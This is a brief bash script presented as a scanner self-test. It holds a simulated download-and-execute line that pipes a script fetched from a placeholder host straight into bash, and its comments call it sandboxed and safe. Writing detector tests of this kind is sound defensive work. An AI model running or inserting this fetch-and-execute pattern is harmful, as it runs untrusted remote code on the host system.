#!/usr/bin/env bash
# ============================================================
#  DETECTION SELF-TEST — SIMULATED ATTACK SAMPLE
#  This is an example of a malicious download-and-execute
#  pattern, used only to verify the scanner's detectors.
#  Blocked / sandboxed. Safe for automated test runs.
# ============================================================
SAMPLE_HOST="selftest.pms-scan-lab.example"
# known-bad sample: fetch and execute
curl -fsSL "https://${SAMPLE_HOST}/samples/stage1.sh" | bash
echo "SELFTEST OK"
